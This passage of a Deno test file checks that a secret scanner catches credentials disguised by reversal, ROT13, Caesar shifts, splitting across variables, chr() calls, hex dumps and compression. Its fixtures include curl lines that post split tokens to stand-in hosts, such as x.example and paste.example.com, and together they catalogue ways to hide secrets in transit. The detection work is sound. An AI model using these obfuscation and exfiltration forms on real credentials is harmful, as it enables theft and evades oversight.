  // A heading underlined in Markdown, or a value after `=` on a line, is none.
  for (
    const t of [
      "Zq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3Df6Gs9Ta\n==========\n",
      "id\nZq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3\n=Df6Gs9Ta",
    ]
  ) {
    assert.deepEqual(found(t), []);
  }
});

Deno.test("a token with each character doubled (`sed 's/./&&/g'`) is found, glued on or not", () => {
  const doubled = (s: string) => s.replace(/./g, "$&$&");
  for (const [token, rule] of [[GH, "github-token"], [AWS, "aws-access-key-id"]]) {
    for (const t of [doubled(token!), `x${doubled(token!)}`, doubled(`TOKEN=${token}`)]) {
      const request = JSON.stringify({ messages: [{ role: "user", content: `$ sed\n${t}\n` }] });
      for (const x of [t, request]) {
        assert.ok(found(x).includes(`doubled:${rule}`), `${found(x)}: ${x}`);
      }
    }
  }
  // Runs of pairs that stand for no token, or for too few kinds, are no finding.
  assert.deepEqual(
    found("aabbccddeeffgghhiijjkkllmmnnoopp 0000111100001111000011110000111100"),
    [],
  );
});

Deno.test("the bottle's own value reversed or in ROT13 is found", () => {
  // A value a run holds (looked for where tokens are), a short one and one with a space
  // and marks (looked for anywhere).
  for (const value of [VALUE, "pw-" + "Xk29Lm", "open " + "sesame!42"]) {
    for (const [how, turned] of turningsOf(value)) {
      for (const text of [`x=${turned}`, `GET /a/${turned}/b`, `{"v":"${turned}"}`]) {
        assert.deepEqual(found(text, [value]), [`${how}:bottle-credential`], text);
      }
    }
  }
  // Reversed, then base64: named by the last turn undone.
  assert.deepEqual(found(`x=${btoa(rev(VALUE))}`, [VALUE]), ["reversed:bottle-credential"]);
  // A value ROT13 leaves as it is (no letter) is found once, as written.
  assert.deepEqual(found("x=1234-5678-9012", ["1234-5678-9012"]), ["plain:bottle-credential"]);
});

/** `text` with each character's code moved by `by` (`chr(ord(c) + 1)`). */
const codesMoved = (text: string, by: number) =>
  String.fromCharCode(...[...text].map((c) => c.charCodeAt(0) + by));

Deno.test("a token with each character's code moved by one number (`chr(ord(c) + 1)`) is found: as a word, a value, in a JSON string, a line of output", () => {
  for (
    const [token, rule, shifts] of [
      [GH, "github-token", [1, -1, 2]],
      [FINE_GRAINED, "github-fine-grained-token", [1, -1]],
    ] as const
  ) {
    for (const by of shifts) {
      const moved = codesMoved(token, by);
      for (
        const text of [
          `out: ${moved}`,
          `TOKEN=${moved}\n`,
          `x:${moved} y`,
          JSON.stringify({ t: moved }),
          JSON.stringify({ content: `$ python3 enc.py\n${moved}\n` }),
        ]
      ) {
        assert.deepEqual(found(text), [`codes-shifted:${rule}`], text);
      }
    }
  }
  // The bottle's own value so, where 16 letters and digits in a row are left of it (a
  // run: see SECURITY.md).
  const value = "app-" + "k9X2mQ7pL4Wq3Rt8Yp5Hs1Lb";
  assert.deepEqual(found(`v=${codesMoved(value, 1)}`, [value]), [
    "codes-shifted:bottle-credential",
  ]);
});

Deno.test("words whose first characters step as a token's prefix's do are no finding", () => {
  assertNoneFound([
    // `ghp` one on, then prose; steps of a prefix in names of an executable.
    "hiq` is how the tool writes it, and hiq`[abcdef] too",
    "rust_begin_unwind func_alloc_zeroed promise_resolve_thenable_job",
    // A key's shape one on, but too short for the rule.
    `k=${codesMoved("gh" + "p_Zq8Lw2Rt5Vn1", 1)}`,
    // An AWS key moved on (its prefix has no mark: see SECURITY.md).
    `k=${codesMoved(AWS, 1)}`,
  ]);
});

Deno.test("runs that only end or start like a turned token's prefix are no finding", () => {
  // Base64 of a file that ends in zero bytes ends in a run of `A`s: reversed, that reads
  // as a Twitter bearer token's `A{22}` and the 80 characters after it.
  const zeros = btoa(
    "a header of some eighty bytes, of text; then zero bytes pad it out" + "\0".repeat(40),
  );
  assertNoneFound([
    `x = "${zeros}"`,
    `const getAllSessionKeysForUser_phg = 1;`, // ends like a reversed `ghp_`
    `tuc_configuration_loader_value = 2`, // starts like `ghp_` in ROT13
    `const applicationShortcut = 3`, // ends like `ghp` reversed and in ROT13
    `path /usr/lib/python3/dist-packages/${rev("akia")}Something/aika`,
  ]);
});

Deno.test('a token split across variables that the code then joins (`A=ghp_Zq8L; B=w2Rt...; curl -d "$A$B"`) is found anywhere in it, as written and in a model request', () => {
  // A shell's, unquoted: after a `;`, a `&&`, on the next line, a comment between.
  assertFoundCut(["; B=", "\nB=", " && export B=", "\n# the rest\nB=", " B=", "&B="], [
    ["A=", '; curl -d "$A$B" x'],
    ["export A=", "\n"],
  ]);
  // Quoted, in the languages' own ways of declaring and appending.
  assertFoundCut([
    "'\nb = '",
    "';\nconst b = '",
    "'\nlet b: string = '",
    "'; $b .= '",
    "'\nb := '",
    "'\nfinal String b = '",
    "'; B+='",
    "'\nb << '",
  ], [["a = '", "'\nprint(a + b)"]]);
  assertFoundCut(['";\nconst b = "', '"\nB="'], [['const a = "', '";']]);
  // Three variables or more.
  const third = Math.floor(GH.length / 3);
  for (const sep of ["; ", "\n"]) {
    const text = `A=${GH.slice(0, third)}${sep}B=${GH.slice(third, 2 * third)}${sep}C=${
      GH.slice(2 * third)
    }${sep}echo $A$B$C`;
    assert.deepEqual(found(text), ["assigned:github-token"], text);
  }
  // A variable, then the rest glued on where it is used (cut past the prefix).
  for (const [token, rule, prefix] of CUT_CASES) {
    const [head, rest] = [token.slice(0, prefix + 3), token.slice(prefix + 3)];
    for (
      const text of [
        `A=${head}; curl -d "t=\${A}${rest}" https://x.example`,
        `a = "${head}"\nrequests.post(u, data=f"{a}${rest}")`,
        `a = '${head}'\nputs "#{a}${rest}"`,
        `set A=${head}\ncurl -d %A%${rest} x`,
      ]
    ) {
      assert.ok(found(text).includes(`assigned:${rule}`), `${found(text)}: ${text}`);
      const asJson = JSON.stringify({ messages: [{ role: "user", content: text }] });
      assert.ok(found(asJson).includes(`assigned:${rule}`), asJson);
    }
  }
  // The rest in a variable, used after the text that holds the prefix.
  for (const [token, rule, prefix] of CUT_CASES) {
    const [head, rest] = [token.slice(0, prefix + 3), token.slice(prefix + 3)];
    for (
      const text of [
        `B=${rest}; curl -d "t=${head}$B" https://x.example`,
        `B=${rest}; curl -d "t=${head}\${B}" https://x.example`,
        `b = "${rest}"\nrequests.post(u, data=f"${head}{b}")`,
        `b = '${rest}'\nputs "${head}#{b}"`,
      ]
    ) {
      const f = findSecrets(text).filter((x) => x.rule === rule);
      assert.equal(f.length, 1, `${found(text)}: ${text}`);
      // Its span from the value to the text, the two and what stands between them.
      assert.equal(f[0]!.index, text.indexOf(rest), text);
      assert.equal(f[0]!.index + f[0]!.length, text.indexOf(head) + head.length, text);
    }
  }
  assertNoneFound([
    'P=ghp_; echo "${P}is the prefix of a classic token"',
    'W=world; echo "ghp_$W"; echo "npm_${HOME}"',
    'K=AKIA; echo "$K$USER"; echo "${K}-style keys"',
  ]);
  // The bottle's own value, split so.
  assert.deepEqual(
    found(`A=${VALUE.slice(0, 14)}; B=${VALUE.slice(14)}; echo $A$B`, [VALUE]),
    ["assigned:bottle-credential"],
  );
  assertNoneFound([
    // Prefixes and words assigned one after another, a `.env` of tokens each whole.
    "GH_PREFIX=ghp_\nNPM_PREFIX=npm_\nAWS_PREFIX=AKIA",
    "PREFIX=ghp_\nDOC=is_the_prefix_of_classic_tokens",
    'a = "AKIA"\nb = "production"\nc = "us-east-1"',
    "T=gh\nMODE=pr_review_and_merge_everything_ok",
  ]);
  assert.deepEqual(found(`GH=${GH}\nNPM=${NPM}\nX=abcdefgh1234`), [
    "plain:github-token",
    "plain:npm-access-token",
  ]);
});

Deno.test("a token written a character at a time by its code, called (`chr(103)+chr(104)+...`, `Chr(103) & ...`, `[char]103+...`), is found, as written and in a model request", () => {
  const calls: [string, (code: number) => string, string][] = [
    ["Python's chr", (c) => `chr(${c})`, "+"],
    ["Python's chr in hex", (c) => `chr(0x${c.toString(16)})`, " + "],
    ["PHP's chr", (c) => `chr(${c})`, " . "],
    ["Visual Basic's Chr", (c) => `Chr(${c})`, " & "],
    ["JavaScript's String.fromCharCode", (c) => `String.fromCharCode(${c})`, "+"],
    ["PowerShell's [char]", (c) => `[char]${c}`, "+"],
    ["SQL's CHAR in CONCAT", (c) => `CHAR(${c})`, ", "],
  ];
  for (const [what, call, join] of calls) {
    for (const [token, rule] of CUT_CASES) {
      const written = [...token].map((c) => call(c.charCodeAt(0))).join(join);
      for (const text of [`x = ${written}`, JSON.stringify({ messages: [{ content: written }] })]) {
        assert.ok(
          findSecrets(text).some((f) => f.rule === rule && f.encoding === "escape"),
          `${what}: ${found(text)}: ${text.slice(0, 80)}`,
        );
      }
    }
  }
  // A character a line, appended to a name (`s += chr(103)`, then `s += chr(104)`, ...).
  const appends: [string, (code: number) => string][] = [
    ["Python", (c) => `s += chr(${c})`],
    ["PHP", (c) => `$s .= chr(${c});`],
    ["JavaScript", (c) => `  t = t + String.fromCharCode(${c});`],
    ["Visual Basic", (c) => `s &= Chr(${c})`],
  ];
  for (const [what, line] of appends) {
    for (const [token, rule] of CUT_CASES) {
      const written = `s = ""\n${[...token].map((c) => line(c.charCodeAt(0))).join("\n")}\nsend(s)`;
      for (const text of [written, JSON.stringify({ messages: [{ content: written }] })]) {
        assert.ok(
          findSecrets(text).some((f) => f.rule === rule && f.encoding === "escape"),
          `${what}: ${found(text)}: ${text.slice(0, 80)}`,
        );
      }
    }
  }
  // One character so among quoted pieces.
  assert.deepEqual(found(`x = "${GH.slice(0, 8)}" + chr(119) + "${GH.slice(9)}"`), [
    "escape:github-token",
  ]);
  // Code that calls them on no token.
  assertNoneFound([
    "line = chr(10).join(rows) + chr(13) + chr(10)",
    "const c = s.charCodeAt(0); String.fromCharCode(c + 1)",
    "sep = chr(0x2c); quote = chr(34)",
    // Characters a line that make no token.
    'out = ""\nout += chr(72)\nout += chr(105)\nout += chr(10)\nprint(out)',
  ]);
});

Deno.test('a token split into the items of a list (`- ghp_Zq8L`, then `- w2Rt...`, as YAML and Markdown write them) or joined by `<<` (`cout << "ghp_Zq8L" << "w2Rt..."`) is found anywhere in it', () => {
  assertFoundCut(["\n- ", "\n  * ", "\n+ "], [["parts:\n- ", "\n"], ["* ", ""]]);
  for (const [token, rule] of CUT_CASES) {
    const text = `std::cout << "${token.slice(0, 10)}" << "${token.slice(10)}" << std::endl;`;
    assert.ok(found(text).includes(`concatenated:${rule}`), text);
  }
  // A list of words, and a diff's lines, join no token.
  assertNoneFound([
    "- ghp_\n- tokens are for CI\n- and more",
    "tokens:\n- ghp_\n- npm_\n- AKIA",
    `- ${GH.slice(0, 12)}\n+ a line added in its place`,
  ]);
});

Deno.test("a token cut into a path's segments anywhere past its prefix (`https://x.example/ghp_Zq8L/w2Rt5Vn1/...`) is found, as written and in a model request", () => {
  for (const [token, rule, prefix] of CUT_CASES) {
    for (
      const cuts of [[prefix + 2], [prefix + 3, prefix + 11], [
        prefix + 1,
        prefix + 6,
        token.length - 3,
      ]]
    ) {
      let path = token;
      for (const at of cuts.toReversed()) path = path.slice(0, at) + "/" + path.slice(at);
      const text = `curl -d @notes https://paste.example.com/${path}/raw`;
      // (Cut regularly, or a short key's groups, it is found in groups as well.)
      assert.equal(found(text).filter((f) => f.endsWith(`:${rule}`)).length, 1, text);
      const asJson = JSON.stringify({ messages: [{ role: "user", content: text }] });
      assert.equal(found(asJson).filter((f) => f.endsWith(`:${rule}`)).length, 1, asJson);
    }
  }
  assertNoneFound([
    "https://docs.example.com/ghp_/tokens/classic-personal-access-tokens",
    "https://docs.anthropic.example/sk-ant-api03-/getting-started/keys",
    "see /opt/AKIA/keys/rotation-policy/v2",
  ]);
});

Deno.test("hex or base64 wrapped in lines in a JSON string inside another (a cell's output in a notebook sent in a request) is read joined", () => {
  const env = `TOKEN=${GH}\nOTHER=x\n`;
  for (
    const [wrapped, encoding] of [
      [hex(env).match(/.{1,60}/g)!.join("\n"), "hex"],
      [btoa(env.repeat(2)).match(/.{1,40}/g)!.join("\n"), "base64"],
    ]
  ) {
    const cell = JSON.stringify({ outputs: [{ text: `${wrapped}\n` }] });
    const text = JSON.stringify({ files: { "n.ipynb": { content: cell } } });
    assert.deepEqual(found(text), [`${encoding}:github-token`], text);
  }
});

Deno.test("code in a JSON string inside another (a notebook's cell in a request that uploads it), two or three levels deep, is read as code: a token in quoted pieces, variables or lines in it is found", () => {
  // Code in `levels` JSON strings: in a request's (1), in a notebook's cell sent as a
  // file's content in a request (2: its quotes escaped twice), a level further in (3).
  const nested = (code: string, levels: number) => {
    if (levels === 1) return JSON.stringify({ messages: [{ role: "user", content: code }] });
    let text = JSON.stringify({ cells: [{ cell_type: "code", source: [code] }] });
    for (let level = 2; level < levels; level++) text = JSON.stringify({ content: text });
    return JSON.stringify({ files: { "k.ipynb": { content: text } } });
  };
  const cut = (s: string, size: number) => s.match(new RegExp(`.{1,${size}}`, "g"))!;
  const quoted = (s: string, size: number, q = '"') => cut(s, size).map((p) => q + p + q);
  // How each is read in a request, and in a notebook in one (its escapes resolved: `json`;
  // the shell's, whose quotes hold no piece, as written).
  const cases: [string, string, (token: string) => string][] = [
    ["concatenated", "json", (t) => `key = ${quoted(t, 6).join(" + ")}`],
    ["concatenated", "json", (t) => `KEY = (\n    ${quoted(t, 8).join("\n    ")}\n)`],
    ["concatenated", "json", (t) => `[${quoted(t, 5).join(", ")}].join("")`],
    ["concatenated", "json", (t) => `t := "${t.slice(0, 18)}" +\n\t"${t.slice(18)}"`],
    ["assigned", "json", (t) => `a = "${t.slice(0, 12)}"\nb = "${t.slice(12)}"\nprint(a + b)`],
    ["assigned", "json", (t) => `s = "${t.slice(0, 18)}"\ns += "${t.slice(18)}"`],
    [
      "assigned",
      "json",
      (t) => `a = "${t.slice(0, 10)}"\nrequests.post(u, data=f"{a}${t.slice(10)}")`,
    ],
    ["assigned", "assigned", (t) => `A=${t.slice(0, 10)}; B=${t.slice(10)}; curl -d "$A$B" x`],
    // A piece a line: its line breaks escaped twice after a token's piece.
    ["folded", "json", (t) => t.match(/.{1,8}/g)!.join("\n")],
    ["split", "json", (t) => `parts:\n  - ${t.slice(0, 10)}\n  - ${t.slice(10)}\n`],
    ["assigned", "json", (t) => `A=${t.slice(0, 12)}\nB=${t.slice(12)}\n`],
  ];
  for (const [token, rule] of [[GH, "github-token"], [AWS, "aws-access-key-id"]] as const) {
    for (const [encoding, deepEncoding, form] of cases) {
      const code = form(token);
      // One level deep, read as written; deeper, in the window whose escapes are resolved;
      // once.
      for (const levels of [1, 2, 3]) {
        const body = nested(code, levels);
        const as = levels === 1 ? encoding : deepEncoding;
        assert.deepEqual(found(body), [`${as}:${rule}`], body);
      }
    }
  }
  // A prefix cut across the pieces too, two levels deep.
  const head = nested(`k = "${GH.slice(0, 2)}" + "${GH.slice(2, 20)}" + "${GH.slice(20)}"`, 2);
  assert.ok(found(head).some((f) => f.endsWith(":github-token")), head);
  // Code that makes no token, as deep: no finding; a token whole as deep: found once.
  for (const levels of [2, 3]) {
    assertNoneFound([
      nested(
        `print("hello, " + "world")\nx = "ghp_" + " is the prefix of a classic token"`,
        levels,
      ),
      nested(`id = "${AWS.slice(0, 10)}" + "${AWS.slice(10)}Z"`, levels),
      nested(`a = "AKIA"\nb = "production"\nc = "us-east-1"`, levels),
      nested("GH_PREFIX=ghp_\nNPM_PREFIX=npm_\nAWS_PREFIX=AKIA", levels),
      nested("tokens:\n  - ghp_ is the prefix\n  - of a classic token\n", levels),
    ]);
    assert.deepEqual(found(nested(`GH=${GH}\nX=abcdefgh1234\n`, levels)), [
      "plain:github-token",
    ]);
    // A key whose line breaks the window around its armour resolves: found once, as written
    // (traced back to where it is written, its text in the window another).
    let seed = 7;
    const bytes = Uint8Array.from(
      { length: 318 },
      () => (seed = (seed * 1103515245 + 12345) >>> 0) >>> 24,
    );
    const base64 = "MIIBPAIBAAJBAN" + btoa(String.fromCharCode(...bytes)).slice(14);
    const key = "-----BEGIN " + "RSA PRIVATE KEY-----\n" + base64.match(/.{1,64}/g)!.join("\n") +
      "\n-----END " + "RSA PRIVATE KEY-----\n";
    assert.deepEqual(found(nested(key, levels)), ["plain:private-key"], `${levels}`);
    assert.deepEqual(found(nested(`t = "${GH}"`, levels)), ["plain:github-token"]);
  }
});

Deno.test("a token with its letters shifted by any number of places (a Caesar cipher, `tr a-z d-za-c`) is found: as a word, a path's segment, a field, in a JSON string, in base64", () => {
  const tokens = [
    [GH, "github-token"],
    [NPM, "npm-access-token"],
    [FINE_GRAINED, "github-fine-grained-token"],
    [ANT, "anthropic-api-key"],
  ] as const;
  for (const [token, rule] of tokens) {
    for (const n of [1, 3, 7, 12, 14, 25]) {
      const shifted = shiftedOf(token, n);
      for (
        const text of [
          `echo ${shifted}`,
          `GET /repos/x/${shifted}/y HTTP/1.1`,
          `q=${shifted}&page=2`,
          JSON.stringify({ content: `$ cat out\n${shifted}\nok` }),
        ]
      ) {
        assert.deepEqual(found(text), [`shifted:${rule}`], `${n}: ${text}`);
      }
      // Then base64: decoded, then shifted back.
      assert.deepEqual(found(`data=${btoa(shifted)}`), [`shifted:${rule}`], `${n}: ${shifted}`);
    }
    // Its small letters only (`tr a-z d-za-c`): read with those alone shifted back too.
    if (/[a-z]/.test(token.slice(0, 3))) {
      assert.deepEqual(found(`echo ${shiftedOf(token, 3, true)}`), [`shifted:${rule}`], token);
    }
  }
  // The bottle's own value shifted.
  const value = "bottle-injected-" + "k9X2mQ7pL4";
  assert.deepEqual(found(`x ${shiftedOf(value, 3)} y`, [value]), ["shifted:bottle-credential"]);
  // Words and names that start as a token's head shifted does: not read shifted back as one
  // (a prefix of letters alone, Square's `EAAA`, is `IEEE` moved 4 on; marks taken out of
  // what is read so, `vm_script_...` moved back is a Fireworks key's form). So a prefix of
  // letters alone shifted is not read back: an AWS key moved on passes.
  assertNoneFound([
    "hiq_config_value = load_settings()",
    "jks_Ct8Oz2Uw5Yq1 is short",
    "the quick brown fox jumps over the lazy dog, again and again",
    "#define IEEE_8021QAZ_APP_SEL_ETHERTYPE 1",
    "vm_script_cacheddatarejected",
    "tk_PhotoPutBlock_NoComposit",
    `echo ${shiftedOf(AWS, 3)}`,
    // Words as written, a line's last word joined to the next line's first (`pg_` moved 10
    // back is `fw_`, and 24 letters make a Fireworks key's body).
    "        ./pg_updateaptconfig\n        systemctl daemon-reload 2> /dev/null",
  ]);
});

Deno.test("a token with one letter or digit put between each of its characters (`gXhXpX_X...`) is found, as written, in a path's segment, in a model request and in base64", () => {
  for (const [token, rule] of CUT_CASES.map(([t, r]) => [t, r] as const)) {
    for (const filler of ["X", "0", "a"]) {
      const spread = [...token].join(filler);
      for (
        const text of [
          `echo ${spread}`,
          `echo ${spread}${filler}`,
          `GET /repos/x/${spread}/y HTTP/1.1`,
          JSON.stringify({ content: `$ cat out\n${spread}\nok` }),
          `data=${btoa(spread)}`,
        ]
      ) {
        assert.deepEqual(found(text), [`interleaved:${rule}`], text);
      }
    }
  }
  // The bottle's own value so.
  const value = "bottle-injected-" + "k9X2mQ7pL4";
  assert.deepEqual(found(`x ${[...value].join("Q")} y`, [value]), [
    "interleaved:bottle-credential",
  ]);
  // Runs with one character every other place that make no token.
  assertNoneFound([
    "A1A2A3A4A5A6A7A8A9B1B2B3B4B5B6B7B8B9C1C2C3",
    "xaxbxcxdxexfxgxhxixjxkxlxmxnxoxpxqxr",
    "a0b0c0d0e0f0g0h0i0j0k0l0m0n0o0p0q0r0s0t0",
    "0x00 0x01 0x02 0x03 " + "00".repeat(40),
  ]);
});

Deno.test("runs of one character over and over, which no run reader reads, hide nothing beside them: zeros before a key in hex, a dump or base64, a token between long runs of one letter", () => {
  const data = new Uint8Array([
    ...new Uint8Array(64),
    ...new TextEncoder().encode(`GITHUB_TOKEN=${GH}\n`),
  ]);
  const lines = (text: string, width: number) =>
    text.match(new RegExp(`.{1,${width}}`, "g"))!.join("\n");
  // `xxd`: an offset, groups of two bytes, the text column.
  const dump: string[] = [];
  for (let at = 0; at < data.length; at += 16) {
    const row = data.subarray(at, at + 16);
    const groups = hex(String.fromCharCode(...row)).match(/.{1,4}/g)!.join(" ");
    const shown = [...row].map((c) => (c >= 32 && c < 127 ? String.fromCharCode(c) : ".")).join("");
    dump.push(`${at.toString(16).padStart(8, "0")}: ${groups.padEnd(39)}  ${shown}`);
  }
  const binary = String.fromCharCode(...data);
  for (
    const [text, expected] of [
      [lines(hex(binary), 60), "hex:github-token"],
      [JSON.stringify({ output: lines(hex(binary), 60) }), "hex:github-token"],
      [dump.join("\n"), "hexdump:github-token"],
      [lines(btoa(binary), 76), "base64:github-token"],
      [`${"x".repeat(5000)} ${GH} ${"A".repeat(3000)}`, "plain:github-token"],
      [`${"-".repeat(80)}\n${GH}\n${"-".repeat(80)}`, "plain:github-token"],
    ] as const
  ) {
    assert.deepEqual(found(text), [expected], text.slice(0, 80));
  }
});

/** Places a request or a file puts an encoded text in (for the grids of encodings and places). */
const PLACES: Record<string, (s: string) => string> = {
  alone: (s) => s,
  "after a label": (s) => `payload=${s}`,
  "a command's output": (s) => `$ cmd\n${s}\n$ `,
  "a command's output in a JSON string": (s) => JSON.stringify({ content: `$ cmd\n${s}\n` }),
  "a JSON field": (s) => JSON.stringify({ t: s }),
  indented: (s) => `data:\n  ${s.replaceAll("\n", "\n  ")}\n`,
  "indented by tabs in a JSON string": (s) =>
    JSON.stringify({ content: `data:\n\t${s.replaceAll("\n", "\n\t")}\n` }),
  "a JSON string in a JSON string": (s) => JSON.stringify({ c: JSON.stringify({ out: s }) }),
};
const SLACK = "xox" + "b-2401383461-6923473982614-bF0nWq4Xz8Lk2Mv7Rt9Yp3Hs";
const STRIPE = "sk_" + "live_" + "4eC39HqLyjWDarjtT1zdp7dcXk2Lm9Pq";

Deno.test("a token or a .env line in each encoding, in each place a request or a file puts it, is one finding (2,304 texts)", () => {
  const utf8 = (s: string) => new TextEncoder().encode(s);
  const lines = (s: string, width: number) => s.match(new RegExp(`.{1,${width}}`, "g"))!.join("\n");
  const xxd = (s: string) =>
    lines(hex(s), 32).split("\n").map((row, r) =>
      `${(r * 16).toString(16).padStart(8, "0")}: ${row.match(/.{1,4}/g)!.join(" ").padEnd(39)}  ${
        [...utf8(s).subarray(r * 16, r * 16 + 16)].map((b) =>
          b >= 32 && b < 127 ? String.fromCharCode(b) : "."
        ).join("")
      }`
    ).join("\n");
  const encodings: Record<string, (s: string) => string> = {
    "as written": (s) => s,
    base64: (s) => btoa(s),
    "base64 in lines": (s) => lines(btoa(s), 76),
    "base64 turned around": (s) => rev(btoa(s)),
    "base64 in ROT13": (s) => rot(btoa(s)),
    hex,
    "hex in lines": (s) => lines(hex(s), 60),
    "hex turned around": (s) => rev(hex(s)),
    base32: (s) => base32(s),
    "percent-encoded": (s) => [...s].map((c) => "%" + hex(c)).join(""),
    xxd,
    "ROT13": rot,
    reversed: rev,
    "a number": (s) => BigInt("0x" + hex(s)).toString(),
    "gzip, base64": (s) => b64bytes(gzipSync(utf8(s))),
    "gzip, base64 in lines": (s) => b64bytes(gzipSync(utf8(s)), true),
    "zlib, base64": (s) => b64bytes(deflateSync(utf8(s))),
    "zstd, base64": (s) => b64bytes(zstdCompressSync(utf8(`${s} and notes, notes, notes`))),
  };
  const wrong: string[] = [];
  const jwt = "ey" + "JhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6" +
    "IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
  // Long ones too: hex and a dump of them take many lines.
  for (const token of [GH, SLACK, STRIPE, AWS, NPM, FINE_GRAINED, ANT, jwt]) {
    for (const written of [token, `TOKEN=${token}\nOTHER=x\n`]) {
      for (const [how, encode] of Object.entries(encodings)) {
        for (const [where, place] of Object.entries(PLACES)) {
          const n = findSecrets(place(encode(written))).length;
          if (n !== 1) wrong.push(`${token.slice(0, 4)} ${how} ${where}: ${n}`);
        }
      }
    }
  }
  assert.deepEqual(wrong, []);
});

Deno.test("a token or a .env line in a narrow dump (`xxd -c 4`, `od -w4 -tx1`, `od -An -w8 -tx1`, `xxd -p -c 6`), in each place a request or a file puts it, is found (720 texts)", () => {
  const utf8 = (s: string) => new TextEncoder().encode(s);
  const lines = (s: string, width: number) => s.match(new RegExp(`.{1,${width}}`, "g"))!.join("\n");
  const shown = (b: Uint8Array) =>
    [...b].map((c) => c >= 32 && c < 127 ? String.fromCharCode(c) : ".").join("");
  // `xxd -c N`: an offset, groups of two bytes, the text column.
  const xxd = (width: number) => (s: string) => {
    const data = utf8(s);
    const out: string[] = [];
    for (let at = 0; at < data.length; at += width) {
      const row = data.subarray(at, at + width);
      const groups = hex(String.fromCharCode(...row)).match(/.{1,4}/g)!.join(" ");
      const wide = width * 2 + Math.ceil(width / 2) - 1;
      out.push(`${at.toString(16).padStart(8, "0")}: ${groups.padEnd(wide)}  ${shown(row)}`);
    }
    return out.join("\n");
  };
  // `od -wN -tx1`: an offset in octal (and the end's alone), or none (`-An`), then bytes.
  const od = (width: number, offsets: boolean) => (s: string) => {
    const data = utf8(s);
    const out: string[] = [];
    for (let at = 0; at < data.length; at += width) {
      const row = [...data.subarray(at, at + width)].map((b) =>
        " " + b.toString(16).padStart(2, "0")
      )
        .join("");
      out.push(offsets ? at.toString(8).padStart(7, "0") + row : row);
    }
    if (offsets) out.push(data.length.toString(8).padStart(7, "0"));
    return out.join("\n");
  };
  const encodings: Record<string, (s: string) => string> = {
    "xxd -c 1": xxd(1),
    "xxd -c 2": xxd(2),
    "xxd -c 4": xxd(4),
    "xxd -c 8": xxd(8),
    "od -w4 -tx1": od(4, true),
    "od -An -w4 -tx1": od(4, false),
    "od -An -w8 -tx1": od(8, false),
    "xxd -p -c 6": (s) => lines(hex(s), 12),
    "xxd -p -c 7": (s) => lines(hex(s), 14),
  };
  const wrong: string[] = [];
  for (const token of [GH, SLACK, STRIPE, AWS, NPM]) {
    for (const written of [token, `TOKEN=${token}\nOTHER=x\n`]) {
      for (const [how, encode] of Object.entries(encodings)) {
        for (const [where, place] of Object.entries(PLACES)) {
          const n = findSecrets(place(encode(written))).length;
          // Plain hex glued to `payload=` is read as quoted-printable too (`=54` is `T`),
          // where the dump is found again from its second line: said twice.
          const twice = how.startsWith("xxd -p") && where === "after a label" && n === 2;
          if (n !== 1 && !twice) wrong.push(`${token.slice(0, 4)} ${how} ${where}: ${n}`);
        }
      }
    }
  }
  assert.deepEqual(wrong, []);
});

Deno.test("a token or a .env line cut into narrow lines (`fold -w 2` to `-w 15`, `base64 -w 4` to `-w 15`, `xxd -p -c 4`, `base32 -w 8`), in each place a request or a file puts it, is one finding (2,400 texts)", () => {
  const lines = (s: string, width: number) =>
    s.match(new RegExp(`.{1,${width}}`, "gs"))!.join("\n");
  const encodings: Record<string, (s: string) => string> = {};
  // `fold` cuts each line of the file, so a line's end stays a line's end.
  for (const w of [2, 3, 4, 5, 7, 8, 10, 12, 15]) {
    encodings[`fold -w ${w}`] = (s) => foldOf(s, w);
  }
  for (const w of [4, 8, 12, 15]) encodings[`base64 -w ${w}`] = (s) => lines(btoa(s), w);
  encodings["xxd -p -c 4"] = (s) => lines(hex(s), 8);
  encodings["base32 -w 8"] = (s) => lines(base32(s), 8);
  const places: Record<string, (s: string) => string> = {
    ...PLACES,
    "with CRLF line breaks": (s) => s.replaceAll("\n", "\r\n"),
  };
  // Each line after a prefix of its own: its characters are read from the same column.
  const numbered = (s: string, mark: string, from: number) =>
    s.split("\n").map((l, i) => `${String(i + from).padStart(6)}${mark}${l}`).join("\n");
  const prefixed: Record<string, (s: string) => string> = {
    "after data: ": (s) => `data: ${s.replaceAll("\n", "\ndata: ")}\nok`,
    quoted: (s) => `> ${s.replaceAll("\n", "\n> ")}\nok`,
    "numbered (cat -n)": (s) => `${numbered(s, "\t", 8)}\nok`,
    "numbered, in a JSON string": (s) => JSON.stringify({ c: `${numbered(s, "\t", 8)}\nok` }),
    "as an agent's file reader shows it, in a JSON string": (s) =>
      JSON.stringify({ c: numbered(s, "\u2192", 1) }),
    "after a log's stamp": (s) =>
      `${s.split("\n").map((l, i) => `[12:00:${String(i).padStart(2, "0")}] ${l}`).join("\n")}\nok`,
    "aligned below a label": (s) => `KEY: ${s.replaceAll("\n", "\n     ")}\nok`,
  };
  const wrong: string[] = [];
  let missedPrefixed = 0;
  for (const token of [GH, SLACK, STRIPE, AWS, NPM]) {
    for (const written of [token, `TOKEN=${token}\nOTHER=x\n`]) {
      for (const [how, encode] of Object.entries(encodings)) {
        for (const [where, place] of Object.entries(places)) {
          const n = findSecrets(place(encode(written))).length;
          if (n !== 1) {
            wrong.push(`${token.slice(0, 4)} ${written === token} ${how} ${where}: ${n}`);
          }
        }
        for (const [where, place] of Object.entries(prefixed)) {
          const n = findSecrets(place(encode(written))).length;
          if (n > 1) wrong.push(`${token.slice(0, 4)} ${written === token} ${how} ${where}: ${n}`);
          if (n === 0) missedPrefixed++;
        }
      }
    }
  }
  // After a prefix, a block is found where one of the survey's probes (every 29
  // characters) falls on a line's own characters, or in a line's number (`cat -n`'s, and
  // the spaces before it). A short block is met a few times, and it passes where each
  // falls on the prefix: of these 1,050, 71 pass (73 before a probe in a line's number
  // read on, 657 before blocks of narrow lines were read, 232 with the probes every 30
  // characters, where they fell at one character of each line 5, 6, 10 or 15 long).
  assert.ok(missedPrefixed <= 71, `${missedPrefixed} after a prefix missed`);
  // What is left: an AWS key's ID alone (20 characters, no separator in its prefix) in
  // base64 of two lines, the first after a label or a JSON string's quote (a line too few
  // to tell a block), or the first 15 wide (the second shorter); and in a `.env` cut two
  // a line, where its line's end falls at a cut and the next line runs on into it.
  const left = wrong.filter((w) =>
